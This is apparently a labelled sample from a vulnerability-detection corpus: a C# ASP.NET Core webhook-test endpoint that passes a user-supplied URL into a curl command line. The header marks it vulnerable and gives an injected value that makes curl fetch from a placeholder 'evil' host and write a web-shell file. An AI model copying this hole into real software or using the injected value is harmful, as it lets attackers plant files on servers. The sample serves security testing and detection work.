// family: process
// verdict: vulnerable
// sink-line: 26
// why: The URL is inserted into one argument string that is split on spaces, so `-o /var/www/shell.php http://evil/x` adds curl options that write files.
using System.Diagnostics;
using System.Threading.Tasks;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Http;

namespace Corpus.Processes.V23;

public sealed record FetchRequest(string Url);

public static class WebhookTestEndpoints
{
    public static void MapWebhookTest(this WebApplication app)
    {
        app.MapPost("/webhooks/test", async (HttpRequest request) =>
        {
            FetchRequest? body = await request.ReadFromJsonAsync<FetchRequest>();
            if (body is null || !body.Url.Contains("://"))
            {
                return Results.BadRequest();
            }

            using var curl = Process.Start("/usr/bin/curl", "-s -m 5 -X POST " + body.Url);
            await curl.WaitForExitAsync();
            return Results.Ok(new { curl.ExitCode });
        });
    }
}
